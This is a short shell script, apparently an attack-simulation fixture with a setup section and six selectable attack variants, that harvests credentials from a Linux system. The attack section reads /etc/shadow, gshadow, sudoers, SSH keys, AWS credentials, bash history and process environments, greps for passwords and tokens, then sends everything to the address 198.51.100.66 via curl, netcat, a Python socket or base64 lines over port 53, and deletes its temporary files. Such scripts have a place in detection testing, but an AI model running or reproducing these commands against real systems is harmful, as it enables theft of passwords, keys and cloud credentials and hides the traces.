# Keys, hashes and tokens are gathered and carried away.
#--- setup
mkdir -p /root/.ssh /root/.aws /home/ann/.ssh
echo key >/root/.ssh/id_rsa; echo '[default]' >/root/.aws/credentials; echo 'mysql -psecret' >/root/.bash_history
#--- attack
c=198.51.100.66
send() { if have curl; then curl -s -T "$1" http://$c/up; else nc -w 1 $c 9999 <"$1"; fi; }
case $((v % 6)) in
0) cat /etc/shadow /etc/gshadow /etc/sudoers /root/.ssh/id_rsa /root/.aws/credentials >/tmp/.l; gzip /tmp/.l; send /tmp/.l.gz; rm -f /tmp/.l.gz ;;
1) find / -xdev \( -name id_rsa -o -name '*.pem' -o -name credentials -o -name .bash_history \) 2>/dev/null | xargs tar cf /tmp/l.tar; base64 /tmp/l.tar >/tmp/l.b64; send /tmp/l.b64; rm -f /tmp/l.* ;;
2) grep -rEl 'passw|secret|token' /etc /root /home 2>/dev/null | head -30 | xargs cat >/dev/shm/g; send /dev/shm/g; rm -f /dev/shm/g ;;
3) for p in /proc/[0-9]*; do cat $p/environ $p/cmdline; done >/tmp/e; cp /etc/shadow /tmp/s; send /tmp/e; send /tmp/s; rm -f /tmp/e /tmp/s ;;
4) if have python3; then python3 -c "
import glob,socket
s=socket.create_connection(('$c',9999))
for f in ['/etc/shadow','/etc/gshadow']+glob.glob('/root/.ssh/*')+glob.glob('/root/.aws/*'):
    try: s.sendall(open(f,'rb').read())
    except OSError: pass"; else for f in /etc/shadow /root/.ssh/id_rsa; do xxd $f 2>/dev/null || od $f; done >/tmp/x; send /tmp/x; rm -f /tmp/x; fi ;;
5) for f in /etc/shadow /root/.ssh/id_rsa /root/.aws/credentials; do head -c 5000 $f | base64 | while read -r l; do echo "$l" | nc -w 1 $c 53; done; done ;;
esac </dev/null >/dev/null 2>&1
